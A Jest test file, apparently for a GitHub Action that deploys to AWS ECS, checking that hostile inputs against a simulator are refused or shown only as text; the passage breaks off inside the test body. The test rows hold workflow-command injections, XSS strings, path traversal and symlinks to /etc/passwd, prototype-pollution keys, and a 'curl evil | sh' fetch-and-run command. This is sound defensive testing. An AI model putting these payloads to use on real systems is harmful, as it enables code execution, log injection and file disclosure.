/**
 * Hostile inputs, task definition files and AWS texts through the bundled deploy-ecs, against the
 * simulator's ECS. A refused row registers no task definition and updates no service; a service
 * whose running task definition names a container and an image that carry workflow commands (set
 * outside this action) is deployed over, its stopped-task reasons quoting that image are printed,
 * and nothing is obeyed.
 *
 * Task definition validation is still growing (the ECS API model, limits): rows it affects assert
 * the input named and the one line, not the wording.
 *
 * The EBS volume inputs (service-managed-ebs-volume-name, service-managed-ebs-volume and their
 * run-task-managed-ebs-volume twins) take a name and a JSON object: hostile names, broken JSON, a
 * member given twice (RFC 8259 §4: names "SHOULD be unique"; JSON.parse would keep the last),
 * Object's own names (`__proto__`, `constructor`), deep nesting and numbers out of range are refused
 * before any call that changes anything; tag values that are commands are data, sent as written.
 *
 * Services ECS deploys itself (BLUE_GREEN with the ECS controller) print ECS's texts when they fail:
 * the alarm that went into ALARM, the lifecycle hook that returned FAILED, the stopped tasks'
 * reasons. Here those carry workflow commands, `%0A`, Markdown and HTML: the log shows them as text
 * (a command is a line that starts with `::` after its white space, or holds `##[` anywhere: GitHub
 * Docs, "Workflow commands for GitHub Actions"; the runner's ActionCommand.TryParseV2 and the
 * legacy TryParse) and the job summary escapes them. CloudWatch alarm names may hold anything but
 * control characters, so an alarm name is one line; the stopped tasks' reasons quote an image set
 * outside this action, which may hold line breaks.
 */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { NO_CREDENTIALS } from '../../../packages/kit/src/run';
import { runAction } from '../../support/harness';
import { renderSummary } from '../../support/rendered-summary';
import { startStack, type Stack } from '../../support/stack';
import {
  BELL,
  INJECTED_COMMANDS,
  MARK,
  RTL_OVERRIDE,
  TERMINAL_COLOUR,
  ZERO_WIDTH_SPACE,
  carriageReturnInjection,
  changesNothing,
  commandValue,
  expectOutcome,
  mutatingCalls,
  nameInjection,
  newlineInjection,
  noCredentialsEnv,
  oversize,
  type Row,
} from './hostile';

jest.setTimeout(90_000);

const SPEED = 15;
const SERVICE = 'scoring-web';
const ODD_SERVICE = 'odd-web';
const ODD_NAME_SERVICE = 'odd-name-web';
const CODE_DEPLOY_SERVICE = 'cd-alarm';
const IMAGE = 'registry.local/scoring:2';
const ODD_IMAGE = nameInjection('registry.local/scoring:1');
/** A service whose task definition has an EBS volume configured at launch. */
const EBS_SERVICE = 'ebs-web';
const EBS_ROLE = 'arn:aws:iam::123456789012:role/ecsInfrastructureRole';
/** Services ECS deploys blue/green itself, each failing under its scenario. */
const NATIVE = {
  alarm: 'bg-alarm',
  rollbackFails: 'bg-rollback-fails',
  hook: 'bg-hook',
  pull: 'bg-pull',
} as const;
/**
 * An alarm name CloudWatch takes (no control characters) holding the legacy command marker, a v2
 * command, an encoded line break, HTML, Markdown emphasis, a javascript: link and table cells.
 */
const HOSTILE_ALARM = `${INJECTED_COMMANDS[9]} ${INJECTED_COMMANDS[2]} %0A${INJECTED_COMMANDS[1]} <script>alert(1)</script> **bold** [link](javascript:alert(1)) | cell |`;
const HOSTILE_HOOK = `arn:aws:lambda:us-east-1:123456789012:function:smoke ${INJECTED_COMMANDS[9]} %0A${INJECTED_COMMANDS[0]} <img src=x onerror=alert(1)>`;

let stack: Stack;
let root: string;
let ws: string;

const taskDefinition = (family: string, container = 'model', image = 'registry.local/scoring:1') => ({
  family,
  containerDefinitions: [{ name: container, image, memory: 512, essential: true }],
});

/** A BLUE_GREEN service with a hostile alarm and lifecycle hook, failing as `scenario` says. */
async function seedNative(
  name: string,
  scenario: string,
  container = 'model',
  image?: string,
): Promise<void> {
  await stack.simulator.choose('ecs', name, scenario);
  await stack.simulator.seed('ecs', {
    serviceName: name,
    deploymentConfiguration: {
      strategy: 'BLUE_GREEN',
      bakeTimeInMinutes: 2,
      deploymentCircuitBreaker: { enable: true, rollback: true },
      alarms: { enable: true, rollback: true, alarmNames: [HOSTILE_ALARM, `${name}-latency`] },
      lifecycleHooks: [
        {
          hookTargetArn: HOSTILE_HOOK,
          roleArn: 'arn:aws:iam::123456789012:role/ecs-hooks',
          lifecycleStages: ['POST_TEST_TRAFFIC_SHIFT'],
        },
      ],
    },
    loadBalancers: [
      {
        targetGroupArn: `arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/${name}-blue/0123456789abcdef`,
        containerName: container,
        containerPort: 8080,
      },
    ],
    taskDefinition: taskDefinition(name, container, image),
  });
}

/** A CODE_DEPLOY service whose deployment group watches the hostile alarm; CodeDeploy's error quotes it. */
async function seedCodeDeploy(name: string, scenario: string): Promise<void> {
  await stack.simulator.seed('ecs', {
    serviceName: name,
    deploymentController: { type: 'CODE_DEPLOY' },
    loadBalancers: [
      {
        targetGroupArn: `arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/${name}-blue/0123456789abcdef`,
        containerName: 'model',
        containerPort: 8080,
      },
    ],
    taskDefinition: {
      ...taskDefinition(name),
      containerDefinitions: [
        { ...taskDefinition(name).containerDefinitions[0], portMappings: [{ containerPort: 8080 }] },
      ],
    },
  });
  await stack.simulator.seed('codedeploy', {
    service: name,
    alarms: [HOSTILE_ALARM],
    terminationWaitMinutes: 0,
  });
  await stack.simulator.choose('codedeploy', `DgpECS-default-${name}`, scenario);
}

async function seedServices(): Promise<void> {
  await stack.simulator.reset();
  await stack.simulator.seed('ecs', { serviceName: SERVICE, taskDefinition: taskDefinition(SERVICE) });
  await stack.simulator.seed('ecs', {
    serviceName: EBS_SERVICE,
    taskDefinition: {
      ...taskDefinition(EBS_SERVICE),
      volumes: [
        { name: 'data', configuredAtLaunch: true },
        { name: 'scratch', configuredAtLaunch: true },
      ],
    },
  });
  await seedCodeDeploy(CODE_DEPLOY_SERVICE, 'alarm-rollback');
  await seedNative(NATIVE.alarm, 'alarm-rollback');
  await seedNative(NATIVE.rollbackFails, 'rollback-fails');
  await seedNative(NATIVE.hook, 'hook-fails');
  // The running revision's image carries commands (set outside this action); the new revision
  // cannot pull that image, and the stopped tasks' reasons quote it.
  await seedNative(NATIVE.pull, 'image-pull-failure', 'model', ODD_IMAGE);
  // Set outside this action: what ECS reads back is an AWS text like any other.
  await stack.simulator.choose('ecs', ODD_SERVICE, 'image-pull-failure');
  await stack.simulator.seed('ecs', {
    serviceName: ODD_SERVICE,
    taskDefinition: taskDefinition(ODD_SERVICE, 'model', ODD_IMAGE),
  });
  // A container name ECS's rule refuses: the action will not register it again.
  await stack.simulator.seed('ecs', {
    serviceName: ODD_NAME_SERVICE,
    taskDefinition: taskDefinition(ODD_NAME_SERVICE, nameInjection('model')),
  });
}

beforeAll(async () => {
  stack = await startStack({ simulatorSpeed: SPEED });
  await seedServices();
  root = mkdtempSync(join(tmpdir(), 'hostile-deploy-ecs-'));
  ws = join(root, 'ws');
  const write = (path: string, content: string): void => {
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, content);
  };
  write(join(ws, 'taskdef.json'), JSON.stringify(taskDefinition(SERVICE), null, 2));
  write(join(root, 'outside', 'taskdef.json'), JSON.stringify(taskDefinition(SERVICE)));
  write(join(ws, 'bad', 'not-json.json'), `{\n  "family": "x",\n${INJECTED_COMMANDS.join('\n')}\n`);
  write(join(ws, 'bad', 'array.json'), '[1, 2]');
  write(join(ws, 'bad', 'no-family.json'), JSON.stringify({ containerDefinitions: [] }));
  write(
    join(ws, 'bad', 'command-keys.json'),
    JSON.stringify({ ...taskDefinition(SERVICE), [INJECTED_COMMANDS[0]]: INJECTED_COMMANDS[2] }),
  );
  // Object's own names as members: unknown fields of RegisterTaskDefinition like any other.
  const plain = JSON.stringify(taskDefinition(SERVICE)).slice(1);
  write(join(ws, 'bad', 'proto-key.json'), `{"__proto__": {"cpu": "4096"}, ${plain}`);
  write(join(ws, 'bad', 'constructor-key.json'), `{"constructor": {"prototype": {}}, ${plain}`);
  write(join(ws, 'bad', 'family-commands.json'), JSON.stringify(taskDefinition(newlineInjection(SERVICE))));
  // Over the 64 KiB ECS accepts for a task definition.
  write(
    join(ws, 'bad', 'oversize.json'),
    JSON.stringify({
      ...taskDefinition(SERVICE),
      containerDefinitions: [
        {
          ...taskDefinition(SERVICE).containerDefinitions[0],
          environment: Array.from({ length: 800 }, (_, i) => ({ name: `V${i}`, value: oversize(100) })),
        },
      ],
    }),
  );
  mkdirSync(join(ws, 'links'));
  symlinkSync('/etc/passwd', join(ws, 'links', 'passwd.json'));
  symlinkSync(join(root, 'outside', 'taskdef.json'), join(ws, 'links', 'taskdef.json'));
  symlinkSync('/etc', join(ws, 'links', 'etc'));
  mkdirSync(join(root, 'home'));
}, 60_000);

afterAll(async () => {
  await stack?.stop();
  if (root) rmSync(root, { recursive: true, force: true });
});

interface SimState {
  services: Array<{ serviceName: string; taskDefinition: string; deployments: unknown[] }>;
  taskDefinitions: Array<{ arn: string }>;
}

/** What a row could change in ECS: task definitions registered, services and their deployments. */
async function ecsState(): Promise<unknown> {
  const state = (await stack.simulator.state('ecs')) as SimState;
  return {
    taskDefinitions: state.taskDefinitions.map((t) => t.arn).sort(),
    services: state.services
      .map((s) => `${s.serviceName} ${s.taskDefinition} ${s.deployments.length}`)
      .sort(),
  };
}

interface Extra {
  readonly noCredentials?: boolean;
  /** ECS's texts carry commands, Markdown and HTML: the summary must hold them escaped. */
  readonly awsTexts?: boolean;
  /** A value that must reach ECS as written, in the parameters of this call. */
  readonly sent?: { readonly operation: string; readonly holds: string };
}

const refused = (input: string, accepted?: RegExp) =>
  accepted === undefined ? { refused: input } : { refused: input, accepted };
const INSIDE = /inside the workspace \(GITHUB_WORKSPACE\) or RUNNER_TEMP/;
const EXISTING = /must name an existing/;
const base = { service: SERVICE, 'container-name': 'model', image: IMAGE };
const VOLUME_NAME = 'service-managed-ebs-volume-name';
const VOLUME = 'service-managed-ebs-volume';
const TASK_VOLUME_NAME = 'run-task-managed-ebs-volume-name';
const TASK_VOLUME = 'run-task-managed-ebs-volume';
/** A volume configuration ECS takes (the anchor's README example); `volume()` changes members of it. */
const VOLUME_JSON = `{"sizeInGiB": 30, "volumeType": "gp3", "encrypted": true, "roleArn": "${EBS_ROLE}"}`;
const volume = (members: Record<string, unknown>): string =>
  JSON.stringify({ ...(JSON.parse(VOLUME_JSON) as object), ...members });
const ebs = {
  service: EBS_SERVICE,
  'container-name': 'model',
  image: IMAGE,
  [VOLUME_NAME]: 'data',
  [VOLUME]: VOLUME_JSON,
};
const runTaskEbs = {
  ...base,
  service: EBS_SERVICE,
  'run-task': 'true',
  'run-task-launch-type': 'EC2',
  [TASK_VOLUME_NAME]: 'scratch',
  [TASK_VOLUME]: VOLUME_JSON,
};
/** EBS tags whose values are commands, Markdown and HTML: tag values are anyone's text. */
const COMMAND_TAGS = [
  { key: 'note', value: INJECTED_COMMANDS[2] },
  { key: 'html', value: '<script>alert(1)</script> **bold** %0A' },
];

const ROWS: Array<Row<Extra>> = [
  // Names ECS allows only letters, digits, hyphens and underscores in.
  {
    name: 'cluster opening a line of commands',
    inputs: { ...base, cluster: newlineInjection('prod') },
    expect: refused('cluster'),
  },
  // A name of hyphens is ECS's to judge: it goes as a value in a JSON body, never as an option.
  {
    name: 'cluster --help is a name ECS does not know',
    inputs: { ...base, cluster: '--help' },
    expect: { fails: /cluster --help cannot be deployed to: MISSING/ },
  },
  { name: 'cluster 256 characters', inputs: { ...base, cluster: oversize(256) }, expect: refused('cluster') },
  {
    name: 'cluster with an RTL override',
    inputs: { ...base, cluster: `prod${RTL_OVERRIDE}` },
    expect: refused('cluster'),
  },
  {
    name: 'service opening a line of commands',
    inputs: { ...base, service: newlineInjection(SERVICE) },
    expect: refused('service'),
  },
  {
    name: 'service with carriage returns',
    inputs: { ...base, service: carriageReturnInjection(SERVICE) },
    expect: refused('service'),
  },
  {
    name: 'service -x is a name ECS does not know',
    inputs: { ...base, service: '-x' },
    expect: { fails: /Service -x in cluster default cannot be deployed to: MISSING/ },
  },
  {
    name: 'service with a zero-width space',
    inputs: { ...base, service: `scoring${ZERO_WIDTH_SPACE}web` },
    expect: refused('service'),
  },
  {
    name: 'service that is a command',
    inputs: { ...base, service: commandValue(2) },
    expect: refused('service'),
  },
  {
    name: 'container-name opening a line of commands',
    inputs: { ...base, 'container-name': newlineInjection('model') },
    expect: refused('container-name'),
  },
  {
    name: 'container-name --help',
    inputs: { ...base, 'container-name': '--help' },
    expect: refused('container-name'),
  },
  // image: a reference, echoed in its refusal.
  {
    name: 'image opening a line of commands',
    inputs: { ...base, image: newlineInjection(IMAGE) },
    expect: refused('image'),
  },
  { name: 'image --help', inputs: { ...base, image: '--help' }, expect: refused('image') },
  {
    name: 'image without a tag or digest',
    inputs: { ...base, image: 'registry.local/scoring' },
    expect: refused('image'),
  },
  {
    name: 'image with upper case',
    inputs: { ...base, image: 'registry.local/Scoring:2' },
    expect: refused('image'),
  },
  {
    name: 'image with a zero-width space',
    inputs: { ...base, image: `registry.local/scoring${ZERO_WIDTH_SPACE}:2` },
    expect: refused('image'),
  },
  {
    name: 'image with a terminal escape',
    inputs: { ...base, image: `${TERMINAL_COLOUR}${IMAGE}` },
    expect: refused('image'),
  },
  // Variables and secrets become task definition fields.
  {
    name: 'environment-variables with a line of commands',
    inputs: { ...base, 'environment-variables': newlineInjection('MODE=serve') },
    expect: refused('environment-variables', /KEY=VALUE/),
  },
  {
    name: 'environment-variables named --help',
    inputs: { ...base, 'environment-variables': '--help=x' },
    expect: refused('environment-variables'),
  },
  {
    name: 'environment-variables named with a space',
    inputs: { ...base, 'environment-variables': 'A B=1' },
    expect: refused('environment-variables'),
  },
  {
    name: 'secrets without an ARN',
    inputs: { ...base, secrets: 'DB_PASSWORD=' },
    expect: refused('secrets'),
  },
  {
    name: 'secrets named with a bell',
    inputs: { ...base, secrets: `DB${BELL}=arn:aws:ssm:us-east-1:123456789012:parameter/db` },
    expect: refused('secrets'),
  },
  // Numbers and choices.
  {
    name: 'desired-count -1',
    inputs: { ...base, 'desired-count': '-1' },
    expect: refused('desired-count'),
  },
  {
    name: 'desired-count 1e9',
    inputs: { ...base, 'desired-count': '1e9' },
    expect: refused('desired-count', /whole number/),
  },
  {
    name: 'desired-count --help',
    inputs: { ...base, 'desired-count': '--help' },
    expect: refused('desired-count', /whole number/),
  },
  {
    name: 'timeout-minutes 361',
    inputs: { ...base, 'timeout-minutes': '361' },
    expect: refused('timeout-minutes'),
  },
  {
    name: 'timeout-minutes -x',
    inputs: { ...base, 'timeout-minutes': '-x' },
    expect: refused('timeout-minutes'),
  },
  { name: 'wait yes', inputs: { ...base, wait: 'yes' }, expect: refused('wait', /true or false/) },
  {
    name: 'run-task-launch-type --help',
    inputs: { ...base, 'run-task': 'true', 'run-task-launch-type': '--help' },
    expect: refused('run-task-launch-type', /must be one of FARGATE, EC2, EXTERNAL/),
  },
  {
    name: 'run-task on FARGATE without subnets',
    inputs: { ...base, 'run-task': 'true' },
    expect: refused('run-task-subnets'),
  },
  {
    name: 'environment-url javascript:',
    inputs: { ...base, 'environment-url': 'javascript:alert(1)' },
    expect: refused('environment-url'),
  },
  {
    name: 'environment-url opening a line of commands',
    inputs: { ...base, 'environment-url': newlineInjection('https://scoring.example') },
    expect: refused('environment-url'),
  },
  // rollback-to
  {
    name: 'rollback-to opening a line of commands',
    inputs: { service: SERVICE, 'rollback-to': newlineInjection('previous') },
    expect: refused('rollback-to'),
  },
  {
    name: 'rollback-to --help',
    inputs: { service: SERVICE, 'rollback-to': '--help' },
    expect: refused('rollback-to'),
  },
  {
    name: 'rollback-to a family without a number',
    inputs: { service: SERVICE, 'rollback-to': `${SERVICE}:latest` },
    expect: refused('rollback-to'),
  },
  {
    name: 'rollback-to with an image',
    inputs: { ...base, 'rollback-to': 'previous' },
    expect: refused('rollback-to'),
  },
  // task-definition: a path confined to the workspace, then a file the action must understand.
  {
    name: 'task-definition ../outside/taskdef.json',
    inputs: { ...base, 'task-definition': '../outside/taskdef.json' },
    expect: refused('task-definition', INSIDE),
  },
  {
    name: 'task-definition /etc/passwd',
    inputs: { ...base, 'task-definition': '/etc/passwd' },
    expect: refused('task-definition', INSIDE),
  },
  {
    name: 'task-definition a link to /etc/passwd',
    inputs: { ...base, 'task-definition': 'links/passwd.json' },
    expect: refused('task-definition', INSIDE),
  },
  {
    name: 'task-definition a link to a file beside the workspace',
    inputs: { ...base, 'task-definition': 'links/taskdef.json' },
    expect: refused('task-definition', INSIDE),
  },
  {
    name: 'task-definition a link to /etc',
    inputs: { ...base, 'task-definition': 'links/etc' },
    expect: refused('task-definition', INSIDE),
  },
  {
    name: 'task-definition --help',
    inputs: { ...base, 'task-definition': '--help' },
    expect: refused('task-definition', EXISTING),
  },
  {
    name: 'task-definition opening a line of commands',
    inputs: { ...base, 'task-definition': newlineInjection('taskdef.json') },
    expect: refused('task-definition', EXISTING),
  },
  {
    name: 'task-definition whose broken lines are commands',
    inputs: { ...base, 'task-definition': 'bad/not-json.json' },
    expect: refused('task-definition'),
  },
  {
    name: 'task-definition that is a list',
    inputs: { ...base, 'task-definition': 'bad/array.json' },
    expect: refused('task-definition'),
  },
  {
    name: 'task-definition without a family',
    inputs: { ...base, 'task-definition': 'bad/no-family.json' },
    expect: refused('task-definition'),
  },
  {
    name: 'task-definition with a key that is a command',
    inputs: { ...base, 'task-definition': 'bad/command-keys.json' },
    expect: refused('task-definition'),
  },
  {
    name: 'task-definition with a __proto__ member',
    inputs: { ...base, 'task-definition': 'bad/proto-key.json' },
    expect: refused('task-definition', /__proto__: unknown field/),
  },
  {
    name: 'task-definition with a constructor member',
    inputs: { ...base, 'task-definition': 'bad/constructor-key.json' },
    expect: refused('task-definition', /constructor: unknown field/),
  },
  {
    name: 'task-definition whose family opens a line of commands',
    inputs: { ...base, 'task-definition': 'bad/family-commands.json' },
    expect: refused('task-definition'),
  },
  {
    name: 'task-definition over 64 KiB',
    inputs: { ...base, 'task-definition': 'bad/oversize.json' },
    expect: refused('task-definition'),
  },
  // Accepted: values reach ECS as values, and the log as text.
  {
    name: 'environment variable values that are commands are deployed, not obeyed',
    inputs: { ...base, 'environment-variables': INJECTED_COMMANDS.map((c, i) => `V${i}=${c}`).join('\n') },
    expect: { succeeds: true },
  },
  // AWS texts: the running task definition's image carries commands; the new revision cannot pull
  // that image, and the stopped tasks' reasons quote it.
  {
    name: 'stopped-task reasons quoting an image with commands are shown as text',
    inputs: { service: ODD_SERVICE, 'environment-variables': 'MODE=canary', 'timeout-minutes': '2' },
    extra: { awsTexts: true },
    shows: `${MARK}-output`,
    expect: { fails: /Deployment .* of odd-web:2 failed.*rolled back to odd-web:1/, changes: true },
  },
  // The running task definition's container name carries commands: ECS's name rule refuses it, so
  // it is not registered again; the refusal names the service it was read from.
  {
    name: 'a running container name with commands is not registered again',
    inputs: { service: ODD_NAME_SERVICE, 'environment-variables': 'MODE=canary' },
    expect: refused('service', /containerDefinitions\[0\]\.name/),
  },
  // service-managed-ebs-volume-name: a volume name (ECS_NAME), then the task definition's volume.
  {
    name: 'service-managed-ebs-volume-name opening a line of commands',
    inputs: { ...ebs, [VOLUME_NAME]: newlineInjection('data') },
    expect: refused(VOLUME_NAME, /\\u000a::set-output/),
  },
  {
    name: 'service-managed-ebs-volume-name with carriage returns',
    inputs: { ...ebs, [VOLUME_NAME]: carriageReturnInjection('data') },
    expect: refused(VOLUME_NAME, /\\u000d::add-mask::/),
  },
  {
    name: 'service-managed-ebs-volume-name with a terminal escape',
    inputs: { ...ebs, [VOLUME_NAME]: `${TERMINAL_COLOUR}data` },
    expect: refused(VOLUME_NAME, /'\\u001b\[31mdata'/),
  },
  {
    name: 'service-managed-ebs-volume-name with an RTL override',
    inputs: { ...ebs, [VOLUME_NAME]: `data${RTL_OVERRIDE}` },
    expect: refused(VOLUME_NAME, /\\u202e/),
  },
  {
    name: 'service-managed-ebs-volume-name with a zero-width space',
    inputs: { ...ebs, [VOLUME_NAME]: `da${ZERO_WIDTH_SPACE}ta` },
    expect: refused(VOLUME_NAME, /\\u200b/),
  },
  {
    name: 'service-managed-ebs-volume-name 100,000 characters',
    inputs: { ...ebs, [VOLUME_NAME]: oversize(100_000) },
    expect: refused(VOLUME_NAME, /\(100000 characters\)'$/),
  },
  // A name of hyphens is a volume name ECS allows; the task definition has no such volume.
  {
    name: 'service-managed-ebs-volume-name --help is no volume of the task definition',
    inputs: { ...ebs, [VOLUME_NAME]: '--help' },
    expect: refused(VOLUME_NAME, /names volume '--help', not in the task definition/),
  },
  // service-managed-ebs-volume: JSON, then the ECS model's shape and EC2's ranges.
  {
    name: 'service-managed-ebs-volume followed by a line of commands',
    inputs: { ...ebs, [VOLUME]: newlineInjection(VOLUME_JSON) },
    expect: refused(VOLUME, /is not valid JSON/),
  },
  {
    name: 'service-managed-ebs-volume whose role ARN opens a line of commands',
    inputs: { ...ebs, [VOLUME]: volume({ roleArn: newlineInjection(EBS_ROLE) }) },
    expect: refused(VOLUME, /roleArn: must be an IAM role ARN/),
  },
  {
    name: 'service-managed-ebs-volume with carriage returns',
    inputs: { ...ebs, [VOLUME]: carriageReturnInjection(VOLUME_JSON) },
    expect: refused(VOLUME, /is not valid JSON/),
  },
  {
    name: 'service-managed-ebs-volume after a terminal escape',
    inputs: { ...ebs, [VOLUME]: `${TERMINAL_COLOUR}${VOLUME_JSON}` },
    expect: refused(VOLUME, /is not valid JSON: Unexpected token '\\u001b'/),
  },
  {
    name: 'service-managed-ebs-volume with a zero-width space between members',
    inputs: { ...ebs, [VOLUME]: VOLUME_JSON.replace(',', `,${ZERO_WIDTH_SPACE}`) },
    expect: refused(VOLUME, /is not valid JSON/),
  },
  {
    name: 'service-managed-ebs-volume with a 100,000-character role ARN',
    inputs: { ...ebs, [VOLUME]: volume({ roleArn: oversize(100_000) }) },
    expect: refused(VOLUME, /roleArn: must be an IAM role ARN .*\(100\d{3} characters\)$/),
  },
  {
    name: 'service-managed-ebs-volume giving sizeInGiB twice',
    inputs: { ...ebs, [VOLUME]: `{"sizeInGiB": 3000, ${VOLUME_JSON.slice(1)}` },
    expect: refused(VOLUME, /gives sizeInGiB twice/),
  },
  {
    name: 'service-managed-ebs-volume with a __proto__ member',
    inputs: { ...ebs, [VOLUME]: `{"__proto__": {"sizeInGiB": 1}, ${VOLUME_JSON.slice(1)}` },
    expect: refused(VOLUME, /__proto__: unknown field/),
  },
  {
    name: 'service-managed-ebs-volume with a constructor member',
    inputs: { ...ebs, [VOLUME]: `{"constructor": {"prototype": {}}, ${VOLUME_JSON.slice(1)}` },
    expect: refused(VOLUME, /constructor: unknown field/),
  },
  {
    name: 'service-managed-ebs-volume with volumeType constructor',
    inputs: { ...ebs, [VOLUME]: volume({ volumeType: 'constructor' }) },
    expect: refused(VOLUME, /volumeType: 'constructor' is not one of gp2/),
  },
  {
    name: 'service-managed-ebs-volume nested 50,000 levels deep',
    inputs: {
      ...ebs,
      [VOLUME]: `{"tagSpecifications": ${'['.repeat(50_000)}${']'.repeat(50_000)}, ${VOLUME_JSON.slice(1)}`,
    },
    expect: refused(VOLUME, /tagSpecifications\[0\]: expected an object/),
  },
  {
    name: 'service-managed-ebs-volume sizeInGiB 1e400',
    inputs: { ...ebs, [VOLUME]: VOLUME_JSON.replace('30', '1e400') },
    expect: refused(VOLUME, /sizeInGiB: expected a whole number \(got the number Infinity\)/),
  },
  {
    name: 'service-managed-ebs-volume sizeInGiB past Int32',
    inputs: { ...ebs, [VOLUME]: VOLUME_JSON.replace('30', '2147483648') },
    expect: refused(VOLUME, /sizeInGiB: must be at most 2147483647/),
  },
  {
    name: 'service-managed-ebs-volume iops 1e6 on gp3',
    inputs: { ...ebs, [VOLUME]: volume({ iops: 1e6 }) },
    expect: refused(VOLUME, /iops: must be 3,000–80,000 IOPS for gp3; got 1000000/),
  },
  {
    name: 'service-managed-ebs-volume --help',
    inputs: { ...ebs, [VOLUME]: '--help' },
    expect: refused(VOLUME, /is not valid JSON/),
  },
  // Tags are data: values that are commands, Markdown and HTML reach UpdateService as written.
  {
    name: 'service-managed-ebs-volume tag values that are commands are deployed, not obeyed',
    inputs: {
      ...ebs,
      [VOLUME]: volume({ tagSpecifications: [{ resourceType: 'volume', tags: COMMAND_TAGS }] }),
    },
    extra: { sent: { operation: 'UpdateService', holds: INJECTED_COMMANDS[2] } },
    expect: { succeeds: true },
  },
  // run-task-managed-ebs-volume(-name): the same rules, read only with run-task.
  {
    name: 'run-task-managed-ebs-volume-name opening a line of commands',
    inputs: { ...runTaskEbs, [TASK_VOLUME_NAME]: newlineInjection('scratch') },
    expect: refused(TASK_VOLUME_NAME, /\\u000a::set-output/),
  },
  {
    name: 'run-task-managed-ebs-volume-name 100,000 characters',
    inputs: { ...runTaskEbs, [TASK_VOLUME_NAME]: oversize(100_000) },
    expect: refused(TASK_VOLUME_NAME, /\(100000 characters\)'$/),
  },
  {
    name: 'run-task-managed-ebs-volume-name --help is no volume of the task definition',
    inputs: { ...runTaskEbs, [TASK_VOLUME_NAME]: '--help' },
    expect: refused(TASK_VOLUME_NAME, /names volume '--help', not in the task definition/),
  },
  {
    name: 'run-task-managed-ebs-volume followed by a line of commands',
    inputs: { ...runTaskEbs, [TASK_VOLUME]: newlineInjection(VOLUME_JSON) },
    expect: refused(TASK_VOLUME, /is not valid JSON/),
  },
  {
    name: 'run-task-managed-ebs-volume giving roleArn twice',
    inputs: { ...runTaskEbs, [TASK_VOLUME]: `{"roleArn": "${EBS_ROLE}", ${VOLUME_JSON.slice(1)}` },
    expect: refused(TASK_VOLUME, /gives roleArn twice/),
  },
  {
    name: 'run-task-managed-ebs-volume with a __proto__ member',
    inputs: { ...runTaskEbs, [TASK_VOLUME]: `{"__proto__": {}, ${VOLUME_JSON.slice(1)}` },
    expect: refused(TASK_VOLUME, /__proto__: unknown field/),
  },
  {
    name: 'run-task-managed-ebs-volume with a 100,000-character member name',
    inputs: { ...runTaskEbs, [TASK_VOLUME]: `{"${oversize(100_000)}": 1, ${VOLUME_JSON.slice(1)}` },
    expect: refused(TASK_VOLUME, /characters\)$/),
  },
  {
    name: 'run-task-managed-ebs-volume sizeInGiB -1',
    inputs: { ...runTaskEbs, [TASK_VOLUME]: VOLUME_JSON.replace('30', '-1') },
    expect: refused(TASK_VOLUME, /sizeInGiB: must be 1–65,536 GiB for gp3; got -1/),
  },
  {
    name: 'run-task-managed-ebs-volume --help',
    inputs: { ...runTaskEbs, [TASK_VOLUME]: '--help' },
    expect: refused(TASK_VOLUME, /is not valid JSON/),
  },
  // The other JSON inputs are read the same way.
  {
    name: 'run-task-container-overrides giving command twice',
    inputs: {
      ...base,
      'run-task': 'true',
      'run-task-launch-type': 'EC2',
      'run-task-container-overrides':
        '[{"name": "model", "command": ["serve"], "command": ["sh", "-c", "curl evil | sh"]}]',
    },
    expect: refused('run-task-container-overrides', /gives \[0\]\.command twice/),
  },
  // ECS's texts of a native BLUE_GREEN deployment that fails: the alarm in ALARM, ECS rolls back.
  {
    name: 'BLUE_GREEN: an alarm named with commands, Markdown and HTML fires; shown as text, escaped in the summary',
    inputs: { service: NATIVE.alarm, 'container-name': 'model', image: IMAGE },
    extra: { awsTexts: true },
    shows: `${MARK}-legacy-error ::error::${MARK}-error %0A::add-mask::${MARK}-mask`,
    expect: {
      fails:
        /BLUE_GREEN deployment .* failed at BAKE_TIME: CloudWatch alarm .*HOSTILE-legacy-error.* in ALARM; ECS rolled back/,
      changes: true,
    },
  },
  // ROLLBACK_FAILED: the run deploys the previous revision itself, its line quoting the alarm.
  {
    name: "BLUE_GREEN: ECS's rollback after a hostile alarm fails; the run's own rollback quotes it as text",
    inputs: { service: NATIVE.rollbackFails, 'container-name': 'model', image: IMAGE },
    extra: { awsTexts: true },
    shows: `in ALARM; ECS's rollback failed (ROLLBACK_FAILED); rolling back to ${NATIVE.rollbackFails}:1`,
    expect: { fails: /ROLLBACK_FAILED.*rolled back to bg-rollback-fails:1/, changes: true },
  },
  {
    name: 'BLUE_GREEN: a lifecycle hook whose ARN carries commands returns FAILED; shown as text',
    inputs: { service: NATIVE.hook, 'container-name': 'model', image: IMAGE },
    extra: { awsTexts: true },
    shows: `${MARK}-legacy-error %0A::set-output`,
    expect: {
      fails:
        /failed at POST_TEST_TRAFFIC_SHIFT: lifecycle hook arn:aws:lambda:.* returned FAILED; ECS rolled back/,
      changes: true,
    },
  },
  // The circuit breaker: the stopped tasks' reasons quote an image with lines of commands.
  {
    name: "BLUE_GREEN: the circuit breaker's stopped tasks quote an image with commands; shown as text",
    inputs: { service: NATIVE.pull, 'environment-variables': 'MODE=canary' },
    extra: { awsTexts: true },
    shows: `${MARK}-output`,
    expect: { fails: /deployment circuit breaker: 3 tasks failed \(threshold 3\)/, changes: true },
  },
  // CodeDeploy blue/green: its ALARM_ACTIVE error quotes the deployment group's alarm names.
  {
    name: "CodeDeploy: an alarm named with commands stops the deployment; CodeDeploy's error is shown as text",
    inputs: { service: CODE_DEPLOY_SERVICE, 'container-name': 'model', image: IMAGE },
    extra: { awsTexts: true },
    shows: `${MARK}-legacy-error ::error::${MARK}-error %0A::add-mask::${MARK}-mask`,
    expect: { fails: /CodeDeploy deployment .* failed: ALARM_ACTIVE: .*HOSTILE-legacy-error/, changes: true },
  },
  // No credentials at all.
  {
    name: 'no credentials: one line saying how to give them',
    inputs: base,
    extra: { noCredentials: true },
    expect: { fails: /^No AWS credentials were found/ },
  },
];

test.each(ROWS)('$name', async (row) => {
  await stack.simulator.clearCalls();
  const before = await ecsState();
  const aws = row.extra?.noCredentials ? noCredentialsEnv(stack, join(root, 'home')) : stack.env;
  const result = await runAction({
    action: 'deploy-ecs',
    workspace: ws,
    inputs: row.inputs,
    env: { ...aws, ...row.env },
    timeoutMs: 80_000,
  });
  expectOutcome(result, row);
  if (changesNothing(row.expect)) {
